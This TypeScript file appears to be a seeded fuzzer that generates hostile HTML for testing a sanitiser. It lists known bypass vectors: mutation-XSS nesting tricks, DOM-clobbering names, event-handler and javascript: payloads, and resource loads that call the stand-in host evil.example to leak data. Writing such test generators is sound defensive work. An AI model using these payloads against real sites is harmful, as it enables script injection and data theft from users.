import { below, pick, type Random, randomOf } from '@arcada/kit/sandbox/handlers'

/** The payload; the test's page has the function. */
const RUN = 'owned()'
const OUT = 'http://evil.example/x'

/** Vectors that got through sanitisers before: markup that changes when it is parsed again, and names that shadow globals. */
const KNOWN: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><noscript><style></noscript></desc><img src=x onerror=${RUN}>`,
  `<svg><foreignobject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignobject></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}" /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<template><div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div></template>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<table><td><a><table><td></a><img src=x onerror=${RUN}>`,
  `<a><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml ><img src=x onerror=${RUN}>?>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img/src="x"/onerror=${RUN}//`,
  `<img src=x onerror\u0000=${RUN}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`,
  `<object data="data:text/html,<script>${RUN}</script>"><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}></marquee><body onload=${RUN}>`,
  `<p popover id=x onbeforetoggle=${RUN}></p><button popovertarget=x>x</button>`,
  `<form id=x tabindex=0 onfocus=${RUN} autofocus><input name=attributes><input name=nodeName></form>`,
  '<form><input name=parentNode><input name=removeChild><input name=childNodes></form>',
  '<img name=getElementById><img name=body><img name=createElement><a id=owned></a><a id=sanitiser></a>',
  '<form name=cookie></form><a id=location href="/m/x"></a><a id=defaultView></a>',
  `<link rel=stylesheet href=${OUT}><style>@import "${OUT}"</style>`,
  `<p style="background:url(${OUT})">x</p><table background=${OUT}><td background=${OUT}>x`,
  `<img srcset="${OUT} 1x"><picture><source srcset=${OUT}><img></picture>`,
  `<video poster=${OUT}></video><input type=image src=${OUT}><meta http-equiv=refresh content="0;${OUT}">`,
  `<svg><image href=${OUT}></image><filter><feImage href=${OUT}></feImage></filter></svg>`,
  `<base href=${OUT}><img src=/a.png><a ping=${OUT} href="/m/home">x</a>`,
]

const words = (...lines: string[]) => lines.flatMap((line) => line.split(' '))

const TAGS = words(
  'p div a img table tr td ul li h1 b span pre svg math style script title textarea noscript',
  'template form input select option iframe object embed xmp mtext mglyph malignmark',
  'annotation-xml foreignObject desc image use animate base link meta video audio source details',
  'body html plaintext slot x-own noframes caption',
)
const NAMES = words(
  'href src srcset xlink:href style id name title alt action formaction background poster data',
  'srcdoc onerror onload onfocus ontoggle onbegin onanimationstart is slot autofocus open encoding',
  'shadowrootmode target rel ping lang dir xmlns content',
)
const VALUES = [
  RUN,
  `javascript:${RUN}`,
  `java&#10;script:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  OUT,
  '//evil.example/x',
  `url(${OUT})`,
  '/m/help',
  'x',
  'owned',
  'body',
  'attributes',
  'text/html',
  'open',
  `"><img src=x onerror=${RUN}>`,
  `</style><img src=x onerror=${RUN}>`,
  `--&gt;&lt;img src=x onerror=${RUN}&gt;`,
  '\u0000',
  '&quot;',
  "'",
  '`',
  '',
]
const TEXTS = [
  'text',
  '<!--',
  '-->',
  '--!>',
  '<![CDATA[',
  ']]>',
  '&lt;',
  '<',
  '</',
  '<?',
  '\u0000',
  `<img src=x onerror=${RUN}>`,
  '"',
  '>',
]

const attribute = (random: Random) => {
  const quote = pick(random, ['"', "'", ''])
  return `${pick(random, [' ', '/', '\n', '\f'])}${pick(random, NAMES)}=${quote}${pick(random, VALUES)}${quote}`
}

function element(random: Random, depth: number): string {
  const tag = pick(random, TAGS)
  let attributes = ''
  for (let left = below(random, 4); left > 0; left -= 1) attributes += attribute(random)
  const end = pick(random, [`</${tag}>`, `</${tag}>`, '', `</${pick(random, TAGS)}>`])
  return `<${tag}${attributes}>${content(random, depth)}${end}`
}

function content(random: Random, depth: number): string {
  let made = ''
  for (let left = below(random, 4); left > 0; left -= 1)
    made += depth > 0 && below(random, 3) > 0 ? element(random, depth - 1) : pick(random, TEXTS)
  return made
}

/** Markup by a grammar, with whole and truncated vectors in it; deterministic by seed. */
export function hostileHtml(seed: string, count: number): string[] {
  const random = randomOf(seed)
  return Array.from({ length: count }, (_, at) => {
    const known = KNOWN[at]
    if (known !== undefined) return known
    const vector = pick(random, KNOWN)
    const kind = below(random, 4)
    if (kind === 0) return element(random, 2) + vector + element(random, 1)
    if (kind === 1) return vector.slice(0, below(random, vector.length)) + element(random, 2)
    return element(random, 5) + element(random, 3)
  })
}
